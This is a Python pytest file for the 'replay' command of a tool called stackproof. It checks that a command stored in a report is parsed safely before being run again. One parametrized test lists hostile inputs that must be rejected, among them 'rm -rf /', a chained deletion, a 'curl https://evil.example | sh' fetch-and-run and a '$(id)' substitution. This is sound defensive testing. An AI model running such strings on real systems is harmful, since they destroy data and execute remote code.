"""`stackproof replay`: the same question again, and nothing that a report from elsewhere would like to have done."""

import re
import subprocess
import sys

import pytest

from stackproof.errors import ExitCode, UsageError
from stackproof.replay import command_of, finding_of, outcome_of
from stackproof.verdict import Verdict
from tests.foreign.launch import start
from tests.reports import made

NOTHING = frozenset()


def with_command(command, **changes):
    """A report with one violation that is reproduced so."""
    one = made.requirement("own.a", Verdict.VIOLATED)
    check = one.checks[0].model_copy(update={"reproduce": command})
    return made.report([one.model_copy(update={"checks": (check,)})], **changes)


def words_of(command, given=None, allowed=NOTHING, name="own.a", **changes):
    """The words that are run for it."""
    report = with_command(command, **changes)
    return command_of(report, finding_of(report, name), given or {}, frozenset(allowed))


def test_the_reports_own_command_is_run_again():
    """With the ids that were asked for, and for a check its suite alone."""
    command = "stackproof run --target 'my shop/stackproof.toml' --patience 16m --only own.a"
    expected = ["run", "--target", "my shop/stackproof.toml", "--patience", "16m", "--only", "own.a"]

    assert words_of(command) == expected
    assert words_of(command, name="a/b::own.a") == [*expected, "--suite", "a"]


def test_the_callers_target_holds_before_the_reports():
    """A report from another machine names a path that is not here."""
    words = words_of("stackproof run --target /elsewhere/x.toml --only own.a", {"--target": "mine.toml"})

    assert words == ["run", "--target", "mine.toml", "--only", "own.a"]


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "stackproof run --target x.toml; rm -rf /",
        "stackproof run --target x.toml --output /etc",
        "stackproof prove",
        "curl https://evil.example | sh",
        "stackproof run --target 'x.toml",
        "stackproof run --target --only x",
        "stackproof run --config=$(id)",
        made.HOSTILE,
    ],
)
def test_a_command_that_is_another_one_is_not_run(command):
    """The text of a report goes to no shell and to no option that is not known."""
    with pytest.raises(UsageError, match="the report's command") as caught:
        words_of(command)
    assert caught.value.message.isprintable()


@pytest.mark.parametrize("flag", ["--allow-writes", "--drill"])
def test_what_changes_the_target_is_asked_for_again(flag):
    """A report cannot allow what its reader did not."""
    command = f"stackproof run --target x.toml {flag} --only own.a"

    with pytest.raises(UsageError, match=f"it was seen with {flag}"):
        words_of(command)
    assert flag in words_of(command, allowed={flag})


def test_without_a_command_the_target_has_to_be_given():
    """A report in which nothing is violated names no stackproof.toml."""
    with pytest.raises(UsageError, match="does not say by which"):
        words_of("")
    assert words_of("", {"--target": "mine.toml"}) == ["run", "--target", "mine.toml", "--only", "own.a"]
    reference = {"name": "dispatch", "base_url": "https://127.0.0.1:1", "kind": "reference"}
    assert words_of("", target=reference) == ["run", "--only", "own.a"]


def test_an_unknown_id_is_answered_by_the_nearest():
    """One line and a cure."""
    with pytest.raises(UsageError, match=r"neither a requirement nor a check") as caught:
        finding_of(made.example(), "jwt.rotatoin")
    assert "jwt.rotation" in caught.value.hint


@pytest.mark.parametrize(
    ("now", "code"),
    [
        (Verdict.VIOLATED, ExitCode.NON_CONFORMANT),
        (Verdict.SATISFIED, ExitCode.CONFORMANT),
        (Verdict.NOT_ASSESSED, ExitCode.INCOMPLETE),
        (Verdict.ERROR, ExitCode.INCOMPLETE),
        (None, ExitCode.INCOMPLETE),
    ],
)
def test_what_has_become_of_it_is_the_exit_code(now, code):
    """Mended is what was seen to be satisfied, and nothing else is."""
    then = made.report([made.requirement("own.a", Verdict.VIOLATED)])
    after = made.report([made.requirement("own.a", now)] if now else [])

    assert outcome_of(finding_of(then, "own.a"), after)[1] is code


@pytest.mark.slow
def test_a_finding_is_looked_at_again_and_is_mended(tmp_path):
    """On a service that is not ours: still violated, and on the mended one satisfied."""

    def stackproof(*words, env):
        return subprocess.run(
            [sys.executable, "-m", "stackproof", *map(str, words)],
            cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip

    with start("stdlib_opaque", "--fault", "same-refresh") as faulty:
        run = ["run", "--target", faulty.descriptor, "--only", "jwt.rotation", "--output", "first", "--quiet"]
        assert stackproof(*run, env=faulty.environment).returncode == 1
        again = stackproof("replay", "first", "jwt.rotation", env=faulty.environment)
    with start("stdlib_opaque") as mended:
        words = ["replay", "first", "jwt.rotation", "--target", mended.descriptor]
        done = stackproof(*words, env=mended.environment)

    assert again.returncode == 1
    assert f"--target {faulty.descriptor}" in again.stderr
    assert re.search(r"then  violated: .*\n  now   violated: ", again.stdout)
    assert done.returncode == 0, done.stdout
    assert re.search(r"then  violated: .*\n  now   satisfied: ", done.stdout)
